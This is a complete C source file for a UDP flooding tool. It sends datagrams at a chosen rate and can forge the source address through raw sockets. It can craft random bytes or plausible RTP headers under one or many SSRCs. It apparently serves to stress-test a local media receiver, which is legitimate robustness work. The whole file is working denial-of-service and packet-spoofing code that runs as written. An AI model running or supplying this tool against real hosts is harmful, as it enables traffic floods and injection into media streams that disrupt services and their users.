// Sends datagrams to a port at a rate until SIGINT, and then prints how many.
//
// usage: flood ADDRESS PORT RATE ORIGIN[:PORT] KIND
//
// With a port of another program in ORIGIN, its address is forged, which only root may do.
// KIND is 'random' (bytes), 'rtp' (headers that look right, of one SSRC in order), or 'sources' (the
// same, each of another SSRC). Python would not reach 100,000 a second beside what it attacks.
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>

enum { DATAGRAMS = 4096, UDP_HEADER = 8, RTP_HEADER = 12, LEAST = 20, MOST = 200, TOGETHER = 64 };

static unsigned char bytes[DATAGRAMS][UDP_HEADER + RTP_HEADER + MOST];
static struct iovec pieces[DATAGRAMS];
static struct mmsghdr messages[DATAGRAMS];
static volatile sig_atomic_t is_over;

static void stop(int number) {
  (void)number;
  is_over = 1;
}

static double now(void) {
  struct timespec time;
  clock_gettime(CLOCK_MONOTONIC, &time);
  return time.tv_sec + time.tv_nsec / 1e9;
}

// The same numbers in each run (xorshift).
static uint32_t dice(void) {
  static uint32_t state = 1;
  state ^= state << 13;
  state ^= state >> 17;
  return state ^= state << 5;
}

static void put(unsigned char *place, uint32_t value, int count) {
  for (int index = 0; index < count; index++) place[index] = value >> 8 * (count - 1 - index);
}

static struct sockaddr_in address(const char *host, int port) {
  struct sockaddr_in address = {.sin_family = AF_INET, .sin_port = htons(port)};
  if (inet_pton(AF_INET, host, &address.sin_addr) != 1) exit(64);
  return address;
}

int main(int count, char **words) {
  if (count != 6) return 64;
  int port = atoi(words[2]);
  double rate = atof(words[3]);
  char *source = strchr(words[4], ':');
  if (source) *source++ = 0;
  int is_random = strcmp(words[5], "random") == 0, has_sources = strcmp(words[5], "sources") == 0;

  for (int index = 0; index < DATAGRAMS; index++) {
    int head = source ? UDP_HEADER : 0, length = head;
    if (!is_random) {
      put(bytes[index] + length, 0x8060, 2);
      put(bytes[index] + length + 2, index, 2);
      put(bytes[index] + length + 4, 3600 * index, 4);
      put(bytes[index] + length + 8, has_sources ? dice() : 0x6666, 4);
      length += RTP_HEADER;
    }
    for (int left = LEAST + dice() % (MOST - LEAST); left > 0; left--) bytes[index][length++] = dice();
    if (source) {
      put(bytes[index], atoi(source), 2);
      put(bytes[index] + 2, port, 2);
      put(bytes[index] + 4, length, 2);
    }
    pieces[index] = (struct iovec){bytes[index], length};
    messages[index].msg_hdr.msg_iov = &pieces[index];
    messages[index].msg_hdr.msg_iovlen = 1;
  }

  int attacker = source ? socket(AF_INET, SOCK_RAW, IPPROTO_UDP) : socket(AF_INET, SOCK_DGRAM, 0);
  struct sockaddr_in here = address(words[4], 0), there = address(words[1], source ? 0 : port);
  if (attacker < 0 || bind(attacker, (struct sockaddr *)&here, sizeof here) != 0 ||
      connect(attacker, (struct sockaddr *)&there, sizeof there) != 0) {
    perror("flood");
    return 1;
  }
  signal(SIGINT, stop);
  uint64_t sent = 0;
  double begin = now();
  while (!is_over) {
    uint64_t due = (now() - begin) * rate;
    if (sent >= due) {
      nanosleep(&(struct timespec){0, 500000}, NULL);
      continue;
    }
    // In bursts, as a busy machine lets it.
    uint64_t place = sent % DATAGRAMS, most = due - sent;
    if (most > TOGETHER) most = TOGETHER;
    if (most > DATAGRAMS - place) most = DATAGRAMS - place;
    int result = sendmmsg(attacker, messages + place, most, 0);
    if (result > 0) {
      sent += result;
    } else if (errno != ECONNREFUSED && errno != EINTR && errno != ENOBUFS) {
      perror("flood");
      return 1;
    }
  }
  printf("%llu\n", (unsigned long long)sent);
  return 0;
}
